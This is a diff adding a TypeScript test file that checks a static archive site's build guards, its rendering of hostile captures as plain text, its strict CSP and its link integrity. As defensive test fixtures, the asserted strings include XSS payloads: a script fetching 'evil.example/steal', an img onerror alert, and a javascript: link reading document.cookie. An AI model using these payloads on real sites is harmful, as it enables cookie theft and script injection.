@@ -1,0 +1,165 @@
+/**
+ * The build as gatekeeper: bad content stops it with one line per problem
+ * and publishes nothing; hostile captures render as text; every page has a
+ * strict CSP; links and anchors resolve.
+ */
+import { cp, mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { check } from "linkinator";
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { launch, offsite, openPage } from "../support/browser.ts";
+import { buildAndServe, runBuild, type Site } from "../support/site.ts";
+
+const HOSTILE = new URL("../fixtures/hostile", import.meta.url).pathname;
+
+let browser: Browser;
+let scratch: string;
+
+beforeAll(async () => {
+  browser = await launch();
+  scratch = await mkdtemp(join(tmpdir(), "archive-guards-"));
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await rm(scratch, { recursive: true, force: true });
+});
+
+describe("a build with bad content", () => {
+  it("stops with one line per problem and leaves the previous site whole", async () => {
+    const content = join(scratch, "bad");
+    await cp(HOSTILE, content, { recursive: true });
+    const article = join(content, "articles", "hostile.md");
+    const text = await readFile(article, "utf8");
+    await writeFile(
+      article,
+      text
+        .replace(/^headline:.*\n/m, "")
+        .replace(/sha256: "[0-9a-f]+"/, `sha256: "${"a".repeat(64)}"`),
+    );
+    await writeFile(
+      join(content, "articles", "empty.md"),
+      text.replace(/\n---\n[\s\S]*$/, "\n---\n"),
+    );
+
+    const out = join(scratch, "dist");
+    const previous = await runBuild(out, { content: HOSTILE });
+    expect(previous.ok, previous.output).toBe(true);
+    const before = await readdir(out, { recursive: true });
+    const index = await readFile(join(out, "articles/hostile/index.html"), "utf8");
+
+    const failed = await runBuild(out, { content });
+    expect(failed.ok).toBe(false);
+    expect(failed.output).toContain("The content has 3 problems; nothing was built.");
+    expect(failed.output).toContain("articles/hostile.md: headline: is missing");
+    expect(failed.output).toMatch(
+      /articles\/hostile\.md: capture\.sha256: is a{64} but .*hostile\.txt hashes to/,
+    );
+    expect(failed.output).toContain("articles/empty.md: body: is empty");
+    expect(failed.output).not.toMatch(/\n\s+at /); // a message, not a stack trace
+
+    expect(await readdir(out, { recursive: true })).toEqual(before);
+    expect(await readFile(join(out, "articles/hostile/index.html"), "utf8")).toBe(index);
+    expect((await readdir(scratch)).filter((name) => name.includes("building"))).toEqual([]);
+  });
+
+  it("replaces the whole previous site, never merges into it", async () => {
+    const out = join(scratch, "whole");
+    expect((await runBuild(out, { content: HOSTILE })).ok).toBe(true);
+    await writeFile(join(out, "stale.html"), "<p>left over</p>");
+    expect((await runBuild(out, { content: HOSTILE })).ok).toBe(true);
+    expect(await readdir(out)).not.toContain("stale.html");
+  });
+});
+
+describe("a hostile capture", () => {
+  let site: Site;
+
+  beforeAll(async () => {
+    site = await buildAndServe({ content: HOSTILE });
+  });
+
+  afterAll(async () => {
+    await site?.close();
+  });
+
+  it("renders its markup as text: no script runs, no request leaves", async () => {
+    const watched = await openPage(browser);
+    const dialogs: string[] = [];
+    watched.page.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await watched.page.goto(site.at("articles/hostile/"));
+    const article = watched.page.locator("article");
+    for (const selector of ["script", "img", "iframe", "style", "[onclick]", "[onerror]"]) {
+      expect(await article.locator(selector).count(), selector).toBe(0);
+    }
+    expect(
+      await article
+        .locator("a:not(.permalink)")
+        .evaluateAll((as) => as.map((a) => a.getAttribute("href"))),
+    ).toEqual(["#p1"]);
+    const text = await article.innerText();
+    expect(text).toContain(
+      '<script>document.title = "pwned"; fetch("https://evil.example/steal");</script>',
+    );
+    expect(text).toContain('<img src="https://evil.example/pixel.gif" onerror="alert(1)">');
+    expect(text).toContain("[javascript link](javascript:alert(document.cookie))");
+    expect(text).toContain("![tracking pixel](https://evil.example/track.png)");
+    await watched.page.getByText("hover me").hover();
+    await watched.page.getByText("hover me").click();
+    expect(await watched.page.title()).not.toContain("pwned");
+    expect(await watched.page.getByRole("heading", { level: 1 }).innerText()).toBe(
+      'A hostile headline <script>alert("headline")</script>',
+    );
+    expect(dialogs).toEqual([]);
+    expect(watched.errors).toEqual([]);
+    expect(offsite(watched.requests, site.origin)).toEqual([]);
+  });
+
+  it("gives every page a strict CSP, as a meta tag and in _headers", async () => {
+    const files = (await readdir(site.dir, { recursive: true })).filter((f) => f.endsWith(".html"));
+    const headers = await readFile(join(site.dir, "_headers"), "utf8");
+    expect(files.length).toBeGreaterThanOrEqual(3);
+    for (const file of files) {
+      const html = await readFile(join(site.dir, file), "utf8");
+      const csp = /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1];
+      expect(csp, file).toBeDefined();
+      for (const directive of ["default-src 'self'", "object-src 'none'", "base-uri 'none'"]) {
+        expect(csp, file).toContain(directive);
+      }
+      expect(csp, file).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/);
+      expect(csp, file).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
+      expect(headers).toContain(`Content-Security-Policy: ${csp}`);
+    }
+  });
+});
+
+describe.each(["/", "/archive/"])("links under %s", (base) => {
+  let site: Site;
+
+  beforeAll(async () => {
+    site = await buildAndServe({ base, site: "https://archive.example" });
+  });
+
+  afterAll(async () => {
+    await site?.close();
+  });
+
+  it("has no broken link or anchor", async () => {
+    const result = await check({
+      path: site.url,
+      recurse: true,
+      checkFragments: true,
+      concurrency: 8,
+      // Absolute links on SITE_URL point at where the site will be hosted.
+      linksToSkip: ["^https://archive\\.example"],
+    });
+    const broken = result.links.filter((link) => link.state === "BROKEN");
+    expect(broken.map((link) => `${link.url} (from ${link.parent}): ${link.status}`)).toEqual([]);
+    expect(result.links.filter((link) => link.state === "OK").length).toBeGreaterThanOrEqual(9);
+  });
+});
